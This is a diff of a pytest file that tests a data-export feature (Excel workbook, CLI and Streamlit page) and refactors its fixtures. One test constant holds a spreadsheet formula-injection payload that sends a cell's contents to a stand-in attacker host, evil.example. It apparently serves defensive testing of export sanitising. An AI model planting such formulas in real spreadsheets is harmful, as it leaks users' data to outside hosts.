@@ -12,9 +12,7 @@ from decimal import Decimal
 from pathlib import Path
 
 import pytest
-import streamlit as st
 from openpyxl import load_workbook
-from streamlit.runtime.media_file_manager import MediaFileManager
 from streamlit.testing.v1 import AppTest
 
 from issue_core import tables
@@ -24,7 +22,8 @@ from issue_core.errors import DomainError
 from issue_core.i18n import LANGUAGES, catalogue
 from issue_core.models import Base, Role
 from issue_core.services import contributions, placements, sites, users
-from tests.world import World, build_world, row_counts
+from tests.conftest import run_page, use_database
+from tests.world import World, row_counts
 
 PAGE = str(PROJECT_ROOT / "pages" / "data_export.py")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -34,9 +33,9 @@ SECRET_PASSWORD = "Correct-horse-battery-9"
 
 
 @pytest.fixture
-def world(engine) -> World:
+def world(world) -> World:
     """tests/world.py's world, plus notes an attacker typed, a placement, a payment and an account."""
-    world = build_world(engine)
+    engine = world.engine
     sites.create_site(engine, SYSTEM, name="Delta", commune="Ixelles", latitude=50.83, longitude=4.37,
                                 housing_operator_id=world.hou, notes=COMMAND)
     placements.place_household(engine, world.admin, household_id=world.h_samu, unit_id=world.a1,
@@ -158,7 +157,7 @@ def test_cli_export_to_a_workbook(world, tmp_path, capsys):
     workbook = load_workbook(tmp_path / "out" / "issue.xlsx")
     counts = row_counts(world.engine)
     assert {sheet.title: sheet.max_row - 1 for sheet in workbook} == {n: counts[n] for n in tables.table_names()}
-    assert "16 tables exported" in capsys.readouterr().out
+    assert "17 tables exported" in capsys.readouterr().out
 
 
 def test_cli_export_to_a_folder(world, tmp_path):
@@ -203,29 +202,9 @@ def test_cli_through_python_m(tmp_path, demo_url):
 # --- the page ---------------------------------------------------------------------------------------------
 
 
-@pytest.fixture
-def deferred_downloads(monkeypatch) -> dict[str, object]:
-    """The callables the page hands to st.download_button, by button key (run only on a click)."""
-    recorded: dict[str, object] = {}
-    original = MediaFileManager.add_deferred
-
-    def record(self, data_callable, mimetype, coordinates, file_name=None, *, element_id=""):  # noqa: ANN001
-        recorded[element_id.split("-", 2)[-1]] = data_callable  # "$$ID-<hash>-<key>"
-        return original(self, data_callable, mimetype, coordinates, file_name, element_id=element_id)
-
-    monkeypatch.setattr(MediaFileManager, "add_deferred", record)
-    return recorded
-
-
 def open_page(url: str, monkeypatch, actor: Actor) -> AppTest:
-    monkeypatch.setenv("ISSUE_DATABASE_URL", url)
-    st.cache_resource.clear()
-    st.cache_data.clear()
-    app = AppTest.from_file(PAGE, default_timeout=60)
-    app.session_state["issue_actor"] = actor
-    app.run()
-    assert not app.exception, app.exception
-    return app
+    use_database(monkeypatch, url)
+    return run_page(PAGE, actor)
 
 
 def test_page_lists_every_table_with_its_rows_and_downloads(demo_url, monkeypatch, deferred_downloads):
